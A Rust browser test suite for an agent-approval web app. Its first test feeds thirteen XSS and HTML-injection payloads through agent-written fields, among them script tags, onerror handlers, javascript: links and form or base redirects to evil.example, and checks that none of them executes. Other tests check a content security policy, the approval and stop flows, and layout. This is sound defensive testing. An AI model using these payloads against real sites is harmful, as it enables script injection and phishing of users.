//! The pages in a real browser: a person's whole way through them, and what an agent wrote doing nothing.

use crate::agent::Agent;
use crate::browser::Browser;
use crate::database::Db;
use crate::documents::{refund, small_refunds};
use crate::server::{PASSWORD, Server, TENANT};
use serde_json::json;

/// What agents might write to make a page do something.
const PAYLOADS: [&str; 13] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "</bdi></dd></dl></section><form action=//evil.example method=post><button>Approve</button></form>",
    "</title><svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>approve</a>",
    "<style>body{display:none}</style><p style='position:fixed;inset:0'>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "&lt;script&gt;&#x3C;script&#x3E;alert(1)",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
];

#[track_caller]
fn sign_in(browser: &mut Browser, server: &Server) {
    sign_in_as(browser, server, "m@example.test");
}

#[track_caller]
fn sign_in_as(browser: &mut Browser, server: &Server, email: &str) {
    browser.open(&format!("{}/queue", server.base()));
    browser
        .submit("form[action='/sign-in']", &[("tenant", TENANT), ("email", email), ("password", PASSWORD)]);
    assert!(browser.text().contains("Your queue"), "{}", browser.text());
}

#[test]
fn nothing_an_agent_wrote_runs_in_a_browser() {
    let server = Server::start(Db::Sqlite);
    let member = server.member_with("m@example.test", &small_refunds());
    let all = PAYLOADS.join("\n");
    let named = Agent::of_kind(&member, PAYLOADS[2], "acting", &["action:request"]);
    let credential = json!({"label": PAYLOADS[0], "purpose": PAYLOADS[5], "scopes": ["action:request"]});
    let agent = Agent::with_credential(&member, &named.id, &credential);
    let mut arguments = serde_json::Map::new();
    for payload in PAYLOADS {
        arguments.insert(payload.to_owned(), json!([payload, {"deep": payload}]));
    }
    let action = json!({
        "intent": "mail.send",
        "amount": {"value": "12.00", "currency": "EUR"},
        "counterparty": [PAYLOADS[0], PAYLOADS[2], PAYLOADS[7]],
        "resource": PAYLOADS[5],
        "arguments": arguments,
        "evidence": {"confidence": 0.5, "cites": [PAYLOADS[6], PAYLOADS[8]]},
        "attachment": {"kind": PAYLOADS[2], "from": PAYLOADS[3], "text": all, "other": [all]},
    });
    let answer = agent.evaluate(&action).expect_outcome("escalate");
    let decision = answer["decision"]["id"].as_str().unwrap();

    let mut browser = Browser::start();
    sign_in(&mut browser, &server);
    for path in [format!("/queue/{decision}"), "/queue".into(), "/agents".into(), "/calls".into()] {
        browser.open(&format!("{}{path}", server.base()));
        assert_eq!(browser.ask("location.pathname"), path, "the page led elsewhere");
        let foreign = "document.querySelectorAll('script,style,iframe,svg,img,base,object,embed,[style],\
                       [onerror],[onload],[onfocus],a[href^=\"javascript\"],[action^=\"//\"],link[href^=\"//\"]').length";
        assert_eq!(browser.ask(foreign), 0, "{path}");
        assert!(browser.ask("document.body.getBoundingClientRect().height").as_f64().unwrap() > 300.0);
    }
    browser.open(&format!("{}/queue/{decision}", server.base()));
    let text = browser.text();
    for payload in PAYLOADS {
        assert!(text.contains(payload), "`{payload}` is not shown as it is: {text}");
    }
    let incidents = browser.incidents();
    assert!(incidents.is_empty(), "{incidents:#?}");
}

#[test]
fn the_policy_stops_a_script_that_stands_in_a_page_all_the_same() {
    let server = Server::start(Db::Sqlite);
    server.member("m@example.test");
    let mut browser = Browser::start();
    sign_in(&mut browser, &server);
    assert!(browser.incidents().is_empty());
    let plant = "const planted = document.createElement('script'); planted.textContent = 'window.ran = true'; \
                 document.body.append(planted); document.body.setAttribute('onclick', 'window.ran = true'); \
                 document.body.click(); window.ran === undefined";
    assert_eq!(browser.ask(plant), true, "an inline script ran");
    assert!(!browser.incidents().is_empty(), "and the browser reported it");
}

#[test]
fn a_person_approves_and_stops_in_a_browser() {
    let server = Server::start(Db::Sqlite);
    let member = server.member_with("m@example.test", &small_refunds());
    let agent = Agent::new(&member, "runner");
    let answer = agent.evaluate(&refund("5000.00")).expect_outcome("escalate");
    let decision = answer["decision"]["id"].as_str().unwrap();
    let mut browser = Browser::start();
    sign_in(&mut browser, &server);
    browser.open(&format!("{}/queue/{decision}", server.base()));
    browser.submit("form[action$='/approve']", &[("valid_for", "3600")]);
    assert!(browser.text().contains("payments.refund: approved"), "{}", browser.text());
    let shown = member.get(&format!("/v1/decisions/{decision}")).expect(200);
    assert_eq!(shown["status"], "approved");
    browser.open(&format!("{}/mandate", server.base()));
    browser.submit("form[action='/mandate/stop']", &[]);
    assert!(browser.text().contains("Stopped."), "{}", browser.text());
    agent.evaluate(&refund("5.00")).expect_outcome("refuse");
    browser.submit("form[action='/sign-out']", &[]);
    assert!(browser.text().contains("Sign in"), "{}", browser.text());
    assert_eq!(browser.ask("document.cookie"), "", "no cookie is for scripts");
    let incidents = browser.incidents();
    assert!(incidents.is_empty(), "{incidents:#?}");
}

#[test]
fn the_log_fits_on_a_phone_and_on_a_desk() {
    let server = Server::start(Db::Sqlite);
    let member = server.member_with("m@example.test", &small_refunds());
    let agent = Agent::of_kind(&member, "Night shift of the members' office", "acting", &["action:request"]);
    agent.evaluate(&refund("5.00")).expect_outcome("allow");
    agent.evaluate(&refund("5000.00")).expect_outcome("escalate");
    let long = json!({"intent": format!("account.{}", "a_rather_long_name_of_an_action_".repeat(3))});
    agent.evaluate(&long).expect_outcome("refuse");
    let mut browser = Browser::start();
    sign_in(&mut browser, &server);
    for width in [390, 768, 960, 1024, 1200] {
        let size = json!({"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": false});
        browser.order("Emulation.setDeviceMetricsOverride", &size);
        browser.open(&format!("{}/calls", server.base()));
        assert_eq!(browser.ask("document.documentElement.scrollWidth <= innerWidth"), true, "{width}");
        let inside = "const box = document.querySelector('.table').getBoundingClientRect();\
                      return [...document.querySelectorAll('.table td a')].every(link =>\
                        link.getBoundingClientRect().right <= box.right && link.getBoundingClientRect().width > 0)";
        assert_eq!(browser.ask(&format!("(() => {{ {inside} }})()")), true, "{width}");
    }
}

#[test]
fn exports_fit_on_a_phone_and_on_a_desk() {
    let server = Server::start(Db::Sqlite);
    let member = server.member_with("m@example.test", &small_refunds());
    let agent = Agent::of_kind(&member, "Night shift of the members' office", "acting", &["action:request"]);
    agent.evaluate(&refund("5.00")).expect_outcome("allow");
    member.get(&format!("/v1/agents/{}/calls/export?from=2020-01-01T00:00:00Z", agent.id));
    let mut browser = Browser::start();
    sign_in(&mut browser, &server);
    for width in [390, 768, 1200] {
        let size = json!({"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": false});
        browser.order("Emulation.setDeviceMetricsOverride", &size);
        browser.open(&format!("{}/exports", server.base()));
        assert_eq!(browser.ask("document.documentElement.scrollWidth <= innerWidth"), true, "{width}");
        let inside = "[...document.querySelectorAll('.table td a, form input, form select')].every(one =>\
                      one.type === 'hidden' || (one.getBoundingClientRect().right <= innerWidth && \
                      one.getBoundingClientRect().width > 0))";
        assert_eq!(browser.ask(inside), true, "{width}");
    }
    browser.submit("form[action='/exports']", &[("format", "csv")]);
    assert!(browser.text().contains("The export is ready"), "{}", browser.text());
    let incidents = browser.incidents();
    assert!(incidents.is_empty(), "{incidents:#?}");
}

#[test]
fn what_compliance_sees_fits_on_a_phone_and_on_a_desk() {
    let (server, agent) = crate::coverage::set_up(Db::Sqlite);
    let listed = "ch_a_rather_long_reference_of_a_provider_0001";
    crate::coverage::charge(&agent, "24.00", "EUR", Some(("done", listed)), "key-1");
    let name = "Cleo Abernathy-Featherstone";
    let person = json!({"email": "c@example.test", "name": name, "roles": ["member", "compliance"], "password": PASSWORD});
    server.operator().post("/v1/principals", &person).expect(201);
    let cleo = server.sign_in(TENANT, "c@example.test");
    cleo.get("/v1/calls/export?format=csv");
    let mut browser = Browser::start();
    sign_in_as(&mut browser, &server, "c@example.test");
    let list = format!("reference,amount,currency\n{listed},24.00,EUR\nch_ghost,900.00,EUR\nch_2,1.5,JPY\n");
    for width in [360, 390, 768, 1200] {
        let size = json!({"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": false});
        browser.order("Emulation.setDeviceMetricsOverride", &size);
        for path in ["/exports", "/calls", "/who", "/coverage"] {
            browser.open(&format!("{}{path}", server.base()));
            if path == "/coverage" {
                browser.submit("form[action='/coverage']", &[("list", &list)]);
                assert!(browser.text().contains("Missing a receipt"), "{}", browser.text());
            }
            assert_eq!(
                browser.ask("document.documentElement.scrollWidth <= innerWidth"),
                true,
                "{path} {width}"
            );
            let inside = "[...document.querySelectorAll('nav a, header button, td a, .table td:has(*), main button')]\
                          .every(one => one.getBoundingClientRect().right <= innerWidth)";
            assert_eq!(browser.ask(inside), true, "{path} {width}");
            let whole = "[...document.querySelectorAll('td[data-label=As] span, td[data-label=File] a, \
                         td[data-label=Listed] bdi, .visitor + form button')].every(one => one.offsetHeight > 0 && \
                         one.getClientRects().length === 1)";
            assert_eq!(browser.ask(whole), true, "a short word is broken or gone: {path} {width}");
        }
    }
    assert_eq!(browser.ask("document.querySelector('td[data-label=Listed]').innerText"), "900.00 EUR");
    let incidents = browser.incidents();
    assert!(incidents.is_empty(), "{incidents:#?}");
}
